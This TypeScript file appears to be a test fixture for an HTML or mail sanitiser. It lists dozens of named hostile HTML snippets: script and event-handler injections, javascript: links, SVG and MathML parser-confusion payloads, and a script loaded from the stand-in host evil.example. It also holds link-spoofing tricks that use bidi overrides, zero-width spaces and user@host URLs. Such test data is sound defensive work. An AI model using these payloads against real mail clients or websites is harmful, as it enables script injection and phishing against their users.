import { hostileLoads } from "./hostile-loads";

/** A host that nobody may be asked by a letter of ours; a browser test lists who asks. */
const evil = "https://evil.example";
const run = "top.ran=1;alert(1)";

/**
 * HTML as people write it who want a reader's browser to run, load, cover or lead somewhere. Each is a way that was once open somewhere: in a mail
 * program, in a sanitiser, or where a browser reads HTML a second time and understands it otherwise. Written for these tests.
 */
export const hostile: [name: string, html: string][] = [
  ["a script", `<script>${run}</script>`],
  ["a script that never ends", `<p>a</p><script>${run}`],
  ["a script within a script's name", `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["a script from elsewhere, without a scheme", `<script src=//evil.example/a.js></script>`],
  ["an image that fails", `<img src=x onerror="${run}">`],
  ["an image whose attributes are parted by slashes", `<img/src="x"/onerror=${run}>`],
  ["an attribute behind a line break and a form feed", `<img src=x\f\nonerror\t=\n"${run}">`],
  ["an attribute with a quote in its name", `<p title='"><img src=x onerror=${run}>'>a</p>`],
  ["a backtick as a quote", "<img src=`x` onerror=`" + run + "`>"],
  ["an event of a moving text", `<marquee onstart="${run}" loop=1>a</marquee>`],
  ["a fold that opens itself", `<details open ontoggle="${run}"><summary>a</summary></details>`],
  ["an animation that begins", `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${run}">a</p>`],
  ["focus that is taken", `<input autofocus onfocus="${run}"><p tabindex=1 autofocus onfocus="${run}">a</p>`],
  ["a link that is a script", `<a href="javascript:${run}">a</a>`],
  ["a link that is a script, with a tab in its scheme", `<a href="java&#9;script:${run}">a</a>`],
  [
    "a link that is a script, in entities without an end",
    `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${run}">a</a>`,
  ],
  ["a link that is a script behind a control character", `<a href="&#1;javascript:${run}">a</a>`],
  ["a link of Visual Basic", `<a href="vbscript:msgbox(1)">a</a>`],
  ["a link to a page in the link", `<a href="data:text/html,<script>${run}</script>">a</a>`],
  [
    "a link to something of this browser's",
    `<a href="blob:${evil}/1">a</a><a href="filesystem:${evil}/1">b</a><a href="view-source:${evil}">c</a>`,
  ],
  [
    "a link to a program",
    `<a href="ms-word:ofe|u|${evil}/a.docx">a</a><a href="file://evil.example/a">b</a><a href="\\\\evil.example\\a">c</a>`,
  ],
  ["a link without a scheme", `<a href="//evil.example/a">a</a><a href="/sign-out">b</a>`],
  ["a link that tells when it is followed", `<a href="${evil}/" ping="${evil}/ping">a</a>`],
  ["a link whose text names another place", `<a href="${evil}/login">https://www.contoso.com/login</a>`],
  ["a link whose text is written backwards", `<a href="${evil}/">\u202Emoc.osotnoc\u202C www.contoso.com</a>`],
  [
    "text turned around by an element and a style",
    `<bdo dir=rtl>moc.osotnoc</bdo><span style="unicode-bidi:bidi-override;direction:rtl">moc.osotnoc</span>`,
  ],
  ["a link whose text hides blanks of no width", `<a href="${evil}/">con\u200Btoso.com</a>`],
  ["a link whose host wears another before an @", `<a href="https://contoso.com@evil.example/">contoso.com</a>`],
  ["a drawing with a script", `<svg onload="${run}"><script>${run}</script></svg>`],
  [
    "a drawing that changes where a link leads",
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>a</text></a></svg>`,
  ],
  ["a drawing that uses another", `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>`],
  ["HTML within a drawing", `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`],
  [
    "a drawing as a picture in the mail",
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  ],
  ["a formula that leads somewhere", `<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction></math>`],
  [
    "a formula that ends in a style",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ],
  ["two forms and a formula", `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`],
  [
    "a formula within a drawing within a style",
    `<svg><style><math><annotation-xml encoding="text/html"><p title="</style><img src=x onerror=${run}>">`,
  ],
  ["a paragraph that leaves a drawing", `<svg></p><style><a id="</style><img src=x onerror=${run}>">`],
  ["a table whose text moves before it", `<table><style><td title="</style><img src=x onerror=${run}>"></table>`],
  [
    "a style that a caption ends",
    `<table><caption><svg><title><table><caption></caption></table></title><style><a title="</style><img src=x onerror=${run}>"></a></style></svg></caption></table>`,
  ],
  [
    "frames so deep that a browser flattens them",
    `${"<div>".repeat(520)}<svg><style><b title="</style><img src=x onerror=${run}>">${"</div>".repeat(520)}`,
  ],
  ["what is read where scripts are off", `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`],
  [
    "a template",
    `<template><img src=x onerror=${run}></template><template shadowrootmode=open><script>${run}</script></template>`,
  ],
  ["an example of old", `<xmp><img src=x onerror=${run}></xmp><listing>&lt;img src=x onerror=${run}&gt;</listing>`],
  ["plain text that never ends", `<plaintext><img src=x onerror=${run}>`],
  [
    "a title and a text field that end early",
    `<title><img src="</title><img src=x onerror=${run}>"></title><textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  ],
  [
    "entities in a text field and an option",
    `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${run}&gt;</textarea><select><option>&lt;img src=x onerror=${run}&gt;</select>`,
  ],
  [
    "frames of old times",
    `<noembed><img src=x onerror=${run}></noembed><noframes><img src=x onerror=${run}></noframes><frameset onload="${run}"><frame src="${evil}"></frameset>`,
  ],
  ["a comment that ends in a browser only", `<!--><img src=x onerror=${run}>--><!---><img src=x onerror=${run}>-->`],
  ["a comment that ends with an exclamation mark", `<!-- a --!><img src=x onerror=${run}> -->`],
  ["comments within comments", `<!-- <!-- --> <img src=x onerror=${run}> -->`],
  [
    "a comment that is none",
    `<! a="><img src=x onerror=${run}>"><?xml "><img src=x onerror=${run}>"?></ a="><img src=x onerror=${run}>">`,
  ],
  [
    "a comment for one mail program",
    `<!--[if mso]><script>${run}</script><![endif]--><![if !mso]><img src=x onerror=${run}><![endif]>`,
  ],
  ["a section of XML", `<![CDATA[<img src=x onerror=${run}>]]><svg><![CDATA[</svg><img src=x onerror=${run}>]]></svg>`],
  [
    "an island of XML",
    `<xml id=x><a><b>&lt;img src=x onerror=${run}&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
  ],
  [
    "a prefix before the name",
    `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${run}</html:script><x:img src=x onerror=${run}>`,
  ],
  ["an element with a name of its own", `<x-a onclick="${run}" is="x-b" slot=a part=b exportparts=c>a</x-a>`],
  ...hostileLoads,
];
